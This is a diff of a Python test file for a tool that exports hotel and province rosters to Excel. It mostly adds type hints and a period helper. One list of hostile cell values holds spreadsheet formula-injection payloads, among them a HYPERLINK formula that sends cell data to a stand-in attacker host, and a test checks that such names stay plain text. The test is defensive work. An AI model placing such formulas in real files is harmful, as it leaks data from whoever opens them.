@@ -5,17 +5,18 @@ from __future__ import annotations
 import io
 import re
 import zipfile
+from pathlib import Path
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from intake.cli.main import main
-from intake.config.settings import load_config
+from intake.config.settings import Config, load_config
 from intake.organizer.desk import Organizer
 from mailer.compose.workbook import PEOPLE_HEADER, roster_workbook
 from mailer.compose.xlsx_cells import put, sheet_title
 from storage.store import Store
-from tests.helpers import cst
+from tests.helpers import cst, known_period
 from tests.organizer_data import PERIOD, add, person, populate, write_config
 
 AFTER = cst("2023-06-20T08:00:00")
@@ -23,17 +24,17 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1", "-2", "@SUM(
 
 
 @pytest.fixture
-def config(tmp_path):
+def config(tmp_path: Path) -> Config:
     return load_config(write_config(tmp_path))
 
 
-def workbook_of(config, store) -> tuple[bytes, object]:
-    data = Organizer(config, store).digest(config.notice.period(PERIOD), AFTER)
+def workbook_of(config: Config, store: Store) -> tuple[bytes, Workbook]:
+    data = Organizer(config, store).digest(known_period(PERIOD, config.notice), AFTER)
     raw = roster_workbook(data)
     return raw, load_workbook(io.BytesIO(raw))
 
 
-def test_sheets_are_everyone_one_per_hotel_summary_and_problems(config):
+def test_sheets_are_everyone_one_per_hotel_summary_and_problems(config: Config) -> None:
     with Store(config.storage_dir) as store:
         populate(store)
         _raw, wb = workbook_of(config, store)
@@ -83,7 +84,7 @@ def test_sheets_are_everyone_one_per_hotel_summary_and_problems(config):
     assert wb["高仕第酒店"].max_row == 3  # 浙江's two; 上海 sent nothing
 
 
-def test_summary_sheet_has_one_row_per_province_totals_and_a_native_bar_chart(config):
+def test_summary_sheet_has_one_row_per_province_totals_and_a_native_bar_chart(config: Config) -> None:
     with Store(config.storage_dir) as store:
         populate(store)
         raw, wb = workbook_of(config, store)
@@ -122,7 +123,7 @@ def test_summary_sheet_has_one_row_per_province_totals_and_a_native_bar_chart(co
     ]
 
 
-def test_names_that_look_like_formulas_stay_text(config):
+def test_names_that_look_like_formulas_stay_text(config: Config) -> None:
     with Store(config.storage_dir) as store:
         people = [
             person(name, unit, f"1390000888{i}", leader=i == 0)
@@ -151,9 +152,7 @@ def test_names_that_look_like_formulas_stay_text(config):
         assert sheets and not any("<f>" in z.read(n).decode() for n in sheets)  # no formula anywhere
 
 
-def test_cell_writer_drops_characters_xml_cannot_hold_and_sheet_titles_are_valid():
-    from openpyxl import Workbook
-
+def test_cell_writer_drops_characters_xml_cannot_hold_and_sheet_titles_are_valid() -> None:
     ws = Workbook().active
     assert put(ws["A1"], "王\x00喆\x1b").value == "王喆"
     assert put(ws["A2"], 3).value == 3 and ws["A2"].data_type == "n"
@@ -162,7 +161,9 @@ def test_cell_writer_drops_characters_xml_cannot_hold_and_sheet_titles_are_valid
     assert sheet_title("x" * 40, taken) == "x" * 31 and sheet_title("x" * 40, taken) == "x" * 28 + "(2)"
 
 
-def test_export_command_writes_the_roster_workbook(config, tmp_path, capsys):
+def test_export_command_writes_the_roster_workbook(
+    config: Config, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     with Store(config.storage_dir) as store:
         populate(store)
     out = tmp_path / "名单.xlsx"
